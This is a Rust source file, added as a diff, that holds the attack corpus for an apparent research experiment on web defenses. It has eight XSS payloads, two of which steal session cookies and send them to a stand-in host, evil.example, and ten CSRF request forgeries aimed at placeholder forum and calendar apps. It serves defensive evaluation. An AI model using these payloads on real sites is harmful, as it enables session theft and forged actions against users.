@@ -1,0 +1,385 @@
+//! The §6.4 attack corpus: four XSS attacks and five CSRF attacks per application.
+//!
+//! Each attack is *data* — a payload plus a machine-checkable goal — so the same
+//! corpus drives the integration tests, the defense-effectiveness experiment and the
+//! examples. As in the paper, the applications are run with their conventional
+//! defenses (input validation, secret tokens) switched off so the attacks actually
+//! reach the browser.
+
+use serde::{Deserialize, Serialize};
+
+use crate::attacker::CsrfVector;
+
+/// Which application an attack targets.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub enum TargetApp {
+    /// The phpBB-like forum.
+    Forum,
+    /// The PHP-Calendar-like calendar.
+    Calendar,
+}
+
+/// The class of attack.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub enum AttackKind {
+    /// Cross-site scripting.
+    Xss,
+    /// Cross-site request forgery.
+    Csrf,
+}
+
+/// What an XSS payload tries to achieve — and how the harness checks whether it did.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub enum XssGoal {
+    /// Issue a state-changing request (new topic / new event) on behalf of the victim
+    /// via `XMLHttpRequest`, riding on the victim's session.
+    ActOnBehalfOfVictim,
+    /// Modify existing trusted content in the page through the DOM API.
+    ModifyExistingContent,
+    /// Read `document.cookie` and exfiltrate it to the attacker's site.
+    StealSessionCookie,
+    /// Use an injected UI event handler (`onerror`) to modify trusted content.
+    HandlerDefacement,
+}
+
+/// One cross-site-scripting attack.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct XssAttack {
+    /// Short identifier, e.g. `forum-xss-1`.
+    pub id: &'static str,
+    /// Human-readable name.
+    pub name: &'static str,
+    /// The application it targets.
+    pub app: TargetApp,
+    /// What the payload tries to do.
+    pub goal: XssGoal,
+    /// The HTML payload submitted as user content (forum reply / calendar event).
+    pub payload: String,
+    /// When set, the harness fires this `(element id, event)` after loading the page —
+    /// used by the handler-injection attacks, standing in for a failed image load.
+    pub trigger_event: Option<(&'static str, &'static str)>,
+}
+
+/// One cross-site-request-forgery attack.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct CsrfAttack {
+    /// Short identifier, e.g. `forum-csrf-1`.
+    pub id: &'static str,
+    /// Human-readable name.
+    pub name: &'static str,
+    /// The application it targets.
+    pub app: TargetApp,
+    /// How the attacker page delivers the forged request.
+    pub vector: CsrfVector,
+    /// A marker string that shows up in the forged state change, used by the harness
+    /// to recognize success.
+    pub marker: &'static str,
+}
+
+/// The four XSS attacks against the forum (§6.4: "In phpBB, we created XSS attacks for
+/// posting new messages on behalf of victim users and for modifying existing
+/// messages").
+#[must_use]
+pub fn forum_xss_attacks() -> Vec<XssAttack> {
+    vec![
+        XssAttack {
+            id: "forum-xss-1",
+            name: "post a new topic on behalf of the victim via XMLHttpRequest",
+            app: TargetApp::Forum,
+            goal: XssGoal::ActOnBehalfOfVictim,
+            payload: "<script>\
+                      var xhr = new XMLHttpRequest();\
+                      xhr.open('POST', '/posting.php');\
+                      xhr.send('mode=post&subject=xss-spam&message=posted+by+xss');\
+                      </script>"
+                .to_string(),
+            trigger_event: None,
+        },
+        XssAttack {
+            id: "forum-xss-2",
+            name: "modify an existing message through the DOM API",
+            app: TargetApp::Forum,
+            goal: XssGoal::ModifyExistingContent,
+            payload: "<script>\
+                      document.getElementById('topic-1').innerHTML = 'defaced by xss';\
+                      </script>"
+                .to_string(),
+            trigger_event: None,
+        },
+        XssAttack {
+            id: "forum-xss-3",
+            name: "steal the session cookie and exfiltrate it to the attacker",
+            app: TargetApp::Forum,
+            goal: XssGoal::StealSessionCookie,
+            payload: "<script>\
+                      var loot = document.cookie;\
+                      var beacon = document.createElement('img');\
+                      beacon.setAttribute('src', 'http://evil.example/steal?c=' + loot);\
+                      document.body.appendChild(beacon);\
+                      </script>"
+                .to_string(),
+            trigger_event: None,
+        },
+        XssAttack {
+            id: "forum-xss-4",
+            name: "deface application content from an injected onerror handler",
+            app: TargetApp::Forum,
+            goal: XssGoal::HandlerDefacement,
+            payload: "<img id=\"xss-img\" src=\"http://missing.invalid/x.png\" \
+                      onerror=\"document.getElementById('app-status').innerHTML = 'xss-by-handler';\">"
+                .to_string(),
+            trigger_event: Some(("xss-img", "error")),
+        },
+    ]
+}
+
+/// The four XSS attacks against the calendar (§6.4: "In PHP-Calendar, we created XSS
+/// attacks for creating new events on behalf of victim users, and modifying existing
+/// events").
+#[must_use]
+pub fn calendar_xss_attacks() -> Vec<XssAttack> {
+    vec![
+        XssAttack {
+            id: "calendar-xss-1",
+            name: "create a new event on behalf of the victim via XMLHttpRequest",
+            app: TargetApp::Calendar,
+            goal: XssGoal::ActOnBehalfOfVictim,
+            payload: "<script>\
+                      var xhr = new XMLHttpRequest();\
+                      xhr.open('POST', '/index.php');\
+                      xhr.send('action=add&title=xss-event&description=created+by+xss');\
+                      </script>"
+                .to_string(),
+            trigger_event: None,
+        },
+        XssAttack {
+            id: "calendar-xss-2",
+            name: "modify an existing event through the DOM API",
+            app: TargetApp::Calendar,
+            goal: XssGoal::ModifyExistingContent,
+            payload: "<script>\
+                      document.getElementById('event-1').innerHTML = 'defaced by xss';\
+                      </script>"
+                .to_string(),
+            trigger_event: None,
+        },
+        XssAttack {
+            id: "calendar-xss-3",
+            name: "steal the session cookie and exfiltrate it to the attacker",
+            app: TargetApp::Calendar,
+            goal: XssGoal::StealSessionCookie,
+            payload: "<script>\
+                      var loot = document.cookie;\
+                      var beacon = document.createElement('img');\
+                      beacon.setAttribute('src', 'http://evil.example/steal?c=' + loot);\
+                      document.body.appendChild(beacon);\
+                      </script>"
+                .to_string(),
+            trigger_event: None,
+        },
+        XssAttack {
+            id: "calendar-xss-4",
+            name: "deface application content from an injected onerror handler",
+            app: TargetApp::Calendar,
+            goal: XssGoal::HandlerDefacement,
+            payload: "<img id=\"xss-img\" src=\"http://missing.invalid/x.png\" \
+                      onerror=\"document.getElementById('app-status').innerHTML = 'xss-by-handler';\">"
+                .to_string(),
+            trigger_event: Some(("xss-img", "error")),
+        },
+    ]
+}
+
+/// The five CSRF attacks against the forum.
+#[must_use]
+pub fn forum_csrf_attacks() -> Vec<CsrfAttack> {
+    vec![
+        CsrfAttack {
+            id: "forum-csrf-1",
+            name: "forge a new topic with an auto-loading image (GET)",
+            app: TargetApp::Forum,
+            vector: CsrfVector::ImageGet {
+                target: "http://forum.example/posting.php?mode=post&subject=csrf-img-topic&message=forged"
+                    .to_string(),
+            },
+            marker: "csrf-img-topic",
+        },
+        CsrfAttack {
+            id: "forum-csrf-2",
+            name: "forge a new topic with an auto-submitted form (POST)",
+            app: TargetApp::Forum,
+            vector: CsrfVector::FormPost {
+                target: "http://forum.example/posting.php".to_string(),
+                fields: vec![
+                    ("mode".to_string(), "post".to_string()),
+                    ("subject".to_string(), "csrf-form-topic".to_string()),
+                    ("message".to_string(), "forged".to_string()),
+                ],
+            },
+            marker: "csrf-form-topic",
+        },
+        CsrfAttack {
+            id: "forum-csrf-3",
+            name: "forge a reply to an existing topic (POST)",
+            app: TargetApp::Forum,
+            vector: CsrfVector::FormPost {
+                target: "http://forum.example/posting.php".to_string(),
+                fields: vec![
+                    ("mode".to_string(), "reply".to_string()),
+                    ("t".to_string(), "1".to_string()),
+                    ("message".to_string(), "csrf-forged-reply".to_string()),
+                ],
+            },
+            marker: "csrf-forged-reply",
+        },
+        CsrfAttack {
+            id: "forum-csrf-4",
+            name: "forge a private message with an auto-loading image (GET)",
+            app: TargetApp::Forum,
+            vector: CsrfVector::ImageGet {
+                target: "http://forum.example/pm.php?to=admin&message=csrf-img-pm".to_string(),
+            },
+            marker: "csrf-img-pm",
+        },
+        CsrfAttack {
+            id: "forum-csrf-5",
+            name: "forge a private message with an auto-submitted form (POST)",
+            app: TargetApp::Forum,
+            vector: CsrfVector::FormPost {
+                target: "http://forum.example/pm.php".to_string(),
+                fields: vec![
+                    ("to".to_string(), "admin".to_string()),
+                    ("message".to_string(), "csrf-form-pm".to_string()),
+                ],
+            },
+            marker: "csrf-form-pm",
+        },
+    ]
+}
+
+/// The five CSRF attacks against the calendar.
+#[must_use]
+pub fn calendar_csrf_attacks() -> Vec<CsrfAttack> {
+    vec![
+        CsrfAttack {
+            id: "calendar-csrf-1",
+            name: "forge a new event with an auto-loading image (GET)",
+            app: TargetApp::Calendar,
+            vector: CsrfVector::ImageGet {
+                target: "http://calendar.example/index.php?action=add&title=csrf-img-event&description=forged"
+                    .to_string(),
+            },
+            marker: "csrf-img-event",
+        },
+        CsrfAttack {
+            id: "calendar-csrf-2",
+            name: "forge a new event with an auto-submitted form (POST)",
+            app: TargetApp::Calendar,
+            vector: CsrfVector::FormPost {
+                target: "http://calendar.example/index.php".to_string(),
+                fields: vec![
+                    ("action".to_string(), "add".to_string()),
+                    ("title".to_string(), "csrf-form-event".to_string()),
+                    ("description".to_string(), "forged".to_string()),
+                ],
+            },
+            marker: "csrf-form-event",
+        },
+        CsrfAttack {
+            id: "calendar-csrf-3",
+            name: "overwrite an existing event with an auto-loading image (GET)",
+            app: TargetApp::Calendar,
+            vector: CsrfVector::ImageGet {
+                target: "http://calendar.example/index.php?action=edit&id=1&description=csrf-img-edit"
+                    .to_string(),
+            },
+            marker: "csrf-img-edit",
+        },
+        CsrfAttack {
+            id: "calendar-csrf-4",
+            name: "overwrite an existing event with an auto-submitted form (POST)",
+            app: TargetApp::Calendar,
+            vector: CsrfVector::FormPost {
+                target: "http://calendar.example/index.php".to_string(),
+                fields: vec![
+                    ("action".to_string(), "edit".to_string()),
+                    ("id".to_string(), "1".to_string()),
+                    ("description".to_string(), "csrf-form-edit".to_string()),
+                ],
+            },
+            marker: "csrf-form-edit",
+        },
+        CsrfAttack {
+            id: "calendar-csrf-5",
+            name: "flood the calendar with a second forged event (GET)",
+            app: TargetApp::Calendar,
+            vector: CsrfVector::ImageGet {
+                target: "http://calendar.example/index.php?action=add&title=csrf-flood&description=forged"
+                    .to_string(),
+            },
+            marker: "csrf-flood",
+        },
+    ]
+}
+
+/// The whole corpus, for iteration in experiments.
+#[must_use]
+pub fn all_xss_attacks() -> Vec<XssAttack> {
+    let mut attacks = forum_xss_attacks();
+    attacks.extend(calendar_xss_attacks());
+    attacks
+}
+
+/// The whole CSRF corpus.
+#[must_use]
+pub fn all_csrf_attacks() -> Vec<CsrfAttack> {
+    let mut attacks = forum_csrf_attacks();
+    attacks.extend(calendar_csrf_attacks());
+    attacks
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn corpus_sizes_match_the_paper() {
+        // "We created 4 XSS attacks for each web application."
+        assert_eq!(forum_xss_attacks().len(), 4);
+        assert_eq!(calendar_xss_attacks().len(), 4);
+        // "We created five CSRF attacks for each web application."
+        assert_eq!(forum_csrf_attacks().len(), 5);
+        assert_eq!(calendar_csrf_attacks().len(), 5);
+        assert_eq!(all_xss_attacks().len(), 8);
+        assert_eq!(all_csrf_attacks().len(), 10);
+    }
+
+    #[test]
+    fn identifiers_are_unique() {
+        let mut ids: Vec<&str> = all_xss_attacks().iter().map(|a| a.id).collect();
+        ids.extend(all_csrf_attacks().iter().map(|a| a.id));
+        let count = ids.len();
+        ids.sort_unstable();
+        ids.dedup();
+        assert_eq!(ids.len(), count);
+    }
+
+    #[test]
+    fn xss_goals_cover_all_four_categories_per_app() {
+        for attacks in [forum_xss_attacks(), calendar_xss_attacks()] {
+            let goals: Vec<XssGoal> = attacks.iter().map(|a| a.goal).collect();
+            assert!(goals.contains(&XssGoal::ActOnBehalfOfVictim));
+            assert!(goals.contains(&XssGoal::ModifyExistingContent));
+            assert!(goals.contains(&XssGoal::StealSessionCookie));
+            assert!(goals.contains(&XssGoal::HandlerDefacement));
+        }
+    }
+
+    #[test]
+    fn csrf_attacks_use_both_get_and_post_vectors() {
+        for attacks in [forum_csrf_attacks(), calendar_csrf_attacks()] {
+            assert!(attacks.iter().any(|a| matches!(a.vector, CsrfVector::ImageGet { .. })));
+            assert!(attacks.iter().any(|a| matches!(a.vector, CsrfVector::FormPost { .. })));
+        }
+    }
+}
